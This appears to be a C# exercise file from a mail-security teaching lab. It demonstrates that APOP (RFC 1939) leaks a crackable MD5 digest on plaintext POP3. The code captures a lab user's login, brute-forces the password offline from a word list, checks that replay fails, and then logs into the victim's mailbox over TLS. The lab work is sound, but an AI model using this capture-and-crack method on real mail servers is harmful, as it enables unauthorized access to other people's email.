using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using MailKit.Net.Pop3;
using MailKit.Security;

namespace MailLab.Server.Exercises.Demos;

/// <summary>
/// Exercise 10: APOP (RFC 1939 §7) on the plaintext POP3 port (switch <c>enable-apop</c>): the password
/// never crosses the wire, but MD5(timestamp + password) does, and the greeting's timestamp with it,
/// so an eavesdropper tries a word list offline; the mail itself crosses in clear. A replayed digest
/// fails (a new greeting, a new timestamp); the cracked password then logs in over TLS.
/// </summary>
internal sealed partial class ApopDemo : IExerciseDemo
{
    /// <summary>The handout's word list (short on purpose: a real one has millions of entries).</summary>
    internal static readonly string[] WordList =
        ["123456", "password", "qwerty", "letmein", "dragon", "monkey", "mailbox", "secret", "welcome", "lab-alice", "lab-carol", "lab-dave", "lab-bob", "lab-ceo"];

    public int Number => 10;

    public async Task RunAsync(DemoContext ctx, CancellationToken ct)
    {
        var sender = ctx.User("uc");
        var victim = ctx.User("uc", ctx.Site("uc").Users.Count - 1); // dave in the default lab
        var pop3 = ctx.EndPoint("uc", "POP3", "starttls");

        ctx.Step($"Setup: a message to {victim.Address} through uc's MSA (under TLS)");
        var note = Submission.Message(sender.Address, victim.Address, "exam questions", "The questions for Friday are attached.");
        await Submission.SendAsync(ctx, "uc", note, ct);
        await ctx.WaitForMessageAsync(victim.Address, note.MessageId!, TimeSpan.FromSeconds(30), ct);

        ctx.Step($"{victim.Address}'s mail client logs in with APOP on the plaintext port {pop3} (RFC 1939 §7): what a sniffer records");
        var (stamp, digest) = await ApopSessionAsync(ctx, pop3, victim.Address, victim.Password, ct);

        ctx.Step("Offline, with the captured timestamp and digest: MD5(timestamp + word) for every word of a list");
        string? found = null;
        foreach (var word in WordList)
        {
            if (Md5Hex(stamp + word) == digest)
            {
                found = word;
                break;
            }
        }
        if (found is null) throw new DemoException($"the word list does not hold {victim.Address}'s password");
        ctx.Out.WriteLine($"   MD5(\"{stamp}\" + \"{found}\") = {digest}: the password is {found}");

        ctx.Step("Replaying the captured APOP line on a new connection fails: the new greeting has a new timestamp");
        var (replay, greeting) = await LineDialogue.ConnectAsync(pop3, ctx.Student, ctx.Out, ct);
        await using (replay)
        {
            ExpectOk(greeting);
            var answer = await replay.SendAsync($"APOP {victim.Address} {digest}", ct);
            if (answer.Lines[0].StartsWith("+OK", StringComparison.Ordinal)) throw new DemoException("the replayed APOP digest was accepted");
            await replay.SendAsync("QUIT", ct);
        }

        var pop3s = ctx.EndPoint("uc", "POP3", "implicit");
        ctx.Step($"Log in as {victim.Address} with the cracked password: USER/PASS over implicit TLS ({pop3s})");
        using var client = new Pop3Client(new DemoProtocolLogger(ctx.Out)) { ServerCertificateValidationCallback = ctx.ValidateServer, Timeout = 30_000 };
        if (ctx.Student is not null) client.LocalEndPoint = new IPEndPoint(ctx.Student, 0);
        await client.ConnectAsync(pop3s.Address.ToString(), pop3s.Port, SecureSocketOptions.SslOnConnect, ct);
        client.AuthenticationMechanisms.Clear();          // no SASL: USER/PASS, as the handout types it
        client.Capabilities &= ~Pop3Capabilities.Apop;    // and not APOP again
        await client.AuthenticateAsync(victim.Address, found, ct);
        ctx.Out.WriteLine($"   {await client.GetMessageCountAsync(ct)} messages in {victim.Address}'s maildrop");
        await client.DisconnectAsync(true, ct);
    }

    /// <summary>APOP by hand: reads the greeting's timestamp, sends the digest, downloads message 1 in clear.</summary>
    private static async Task<(string Stamp, string Digest)> ApopSessionAsync(DemoContext ctx, IPEndPoint pop3, string user, string password, CancellationToken ct)
    {
        var (pop, greeting) = await LineDialogue.ConnectAsync(pop3, ctx.Student, ctx.Out, ct);
        await using var _ = pop;
        ExpectOk(greeting);
        var stamp = Timestamp().Match(greeting.Lines[0]) is { Success: true } m ? m.Value
            : throw new DemoException("the POP3 greeting has no <timestamp>: the server does not offer APOP");
        string digest = Md5Hex(stamp + password);
        ctx.Out.WriteLine($"   MD5(\"{stamp}\" + password) = {digest}");
        var login = await pop.SendAsync($"APOP {user} {digest}", ct);
        if (!login.Lines[0].StartsWith("+OK", StringComparison.Ordinal))
        {
            throw new DemoException("APOP was refused on the plaintext port: start the lab with 'maillab exercise start 10' (enable-apop)");
        }
        // RETR's answer is a dot-terminated body; read it as one SMTP-style line at a time.
        await pop.SendAsync("RETR 1", ct);
        while (true)
        {
            var line = await pop.ReadLineAsync(ct);
            if (line == ".") break;
        }
        ctx.Out.WriteLine("   The whole message crossed the wire in clear: APOP protects only the password.");
        await pop.SendAsync("QUIT", ct);
        return (stamp, digest);
    }

    private static void ExpectOk(SmtpLikeReply reply)
    {
        if (!reply.Lines[0].StartsWith("+OK", StringComparison.Ordinal)) throw new DemoException("POP3 said: " + reply.Lines[0]);
    }

    internal static string Md5Hex(string text) =>
#pragma warning disable CA5351 // APOP is MD5 by definition (RFC 1939 §7): the exercise is about that weakness
        Convert.ToHexStringLower(MD5.HashData(Encoding.UTF8.GetBytes(text)));
#pragma warning restore CA5351

    [GeneratedRegex("<[^<>]*>")]
    private static partial Regex Timestamp();
}
